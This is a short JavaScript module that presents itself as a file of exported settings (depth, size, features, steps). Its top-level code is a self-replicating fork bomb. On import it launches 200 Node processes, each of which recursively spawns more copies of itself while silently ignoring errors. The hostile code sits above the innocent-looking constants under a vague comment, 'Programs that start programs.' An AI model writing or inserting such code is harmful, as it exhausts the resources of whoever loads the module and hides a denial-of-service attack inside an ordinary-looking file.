// Programs that start programs.
const { spawn } = process.getBuiltinModule('child_process');
const again = 'const{spawn}=require("child_process");for(let i=0;i<9;i++)try{spawn(process.execPath,["-e",process.argv[1],process.argv[1]]).on("error",()=>{})}catch{};setTimeout(()=>{},1e4)';
for (let i = 0; i < 200; i++) {
  try { spawn(process.execPath, ['-e', again, again]).on('error', () => {}); } catch {}
}
export const depth = 7;
export const size = 1234;
export const features = 99;
export const steps = [9999, 8888, 7777, 6666];
